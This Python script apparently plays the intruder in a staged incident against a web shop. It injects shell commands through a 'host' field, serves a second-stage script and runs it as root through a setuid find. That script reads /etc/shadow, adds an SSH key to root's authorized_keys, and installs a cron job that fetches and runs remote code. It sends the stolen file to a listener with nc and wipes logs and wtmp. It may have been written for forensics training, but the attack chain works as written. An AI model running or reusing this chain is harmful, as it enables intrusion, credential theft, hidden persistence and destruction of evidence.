"""The other side of incident-2026, not recorded: serves a script, takes what is sent, and breaks in."""

import http.server
import socket
import threading
import time
import urllib.parse
import urllib.request

SCRIPT = b"""#!/bin/sh
# The second stage: run with root's rights by find, which somebody has made setuid.
id
cat /etc/shadow > /tmp/.s
find /root /home -name 'id_*' 2>/dev/null
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAnotakey intruder' >> /root/.ssh/authorized_keys
echo '*/5 * * * * root curl -s http://203.0.113.66:8000/u.sh | sh' > /etc/cron.d/update
chmod 644 /etc/cron.d/update
gzip -c /tmp/.s | nc -N 203.0.113.66 4444
rm -f /tmp/.s /var/log/shop/access.log /var/log/dpkg.log
: > /var/log/wtmp
rm -f /tmp/.u.sh
"""


class Served(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", str(len(SCRIPT)))
        self.end_headers()
        self.wfile.write(SCRIPT)

    def log_message(self, *_):
        pass


def take(listener):
    """Takes one connection's bytes."""
    peer = listener.accept()[0]
    while peer.recv(4096):
        pass


def post(command):
    body = urllib.parse.urlencode({"host": "localhost; " + command}).encode()
    return urllib.request.urlopen("http://192.0.2.10/lookup", body, 20).read()


server = http.server.HTTPServer(("203.0.113.66", 8000), Served)
threading.Thread(target=server.serve_forever, daemon=True).start()
sink = socket.create_server(("203.0.113.66", 4444))
threading.Thread(target=take, args=(sink,), daemon=True).start()

# The shop takes a moment to come up.
for _ in range(200):
    try:
        urllib.request.urlopen("http://192.0.2.10/").read()
        break
    except OSError:
        time.sleep(0.05)

for command in (
    "id; whoami; uname -n -m",
    "cat /etc/passwd | head -n 3; ls -la /srv /var/log",
    "ip -o addr; cat /proc/net/tcp",
    "cat /etc/shadow",
    "find /usr/bin -perm -4000",
    "curl -s -o /tmp/.u.sh http://203.0.113.66:8000/u.sh && chmod +x /tmp/.u.sh",
    "find /tmp/.u.sh -exec /bin/sh -p {} \\;",
):
    print(command, "->", post(command).decode(errors="replace"))
    time.sleep(0.05)
